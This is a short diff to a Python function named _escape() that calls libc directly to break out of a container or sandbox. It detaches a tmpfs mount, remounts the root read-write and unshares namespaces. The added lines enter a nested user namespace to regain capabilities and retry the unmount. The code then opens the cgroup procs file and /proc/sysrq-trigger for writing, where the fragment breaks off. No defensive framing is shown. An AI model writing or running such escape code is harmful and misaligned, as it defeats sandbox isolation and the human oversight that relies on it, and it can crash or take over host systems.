@@ -41,6 +41,8 @@ def _escape():
     _libc.umount2(ref.encode(), 2)                         # MNT_DETACH the tmpfs over it
     _libc.mount(None, b"/", None, 32 | 4096, None)          # MS_REMOUNT | MS_BIND: read-write
     _libc.unshare(0x00020000)                               # a fresh mount namespace
+    if _libc.unshare(0x10000000 | 0x00020000) == 0:        # a nested user namespace: all
+        _libc.umount2(ref.encode(), 2)                      # caps again, try once more
     for path in ("/sys/fs/cgroup/pids/cgroup.procs", "/proc/sysrq-trigger"):
         try:
             with open(path, "w") as fh:
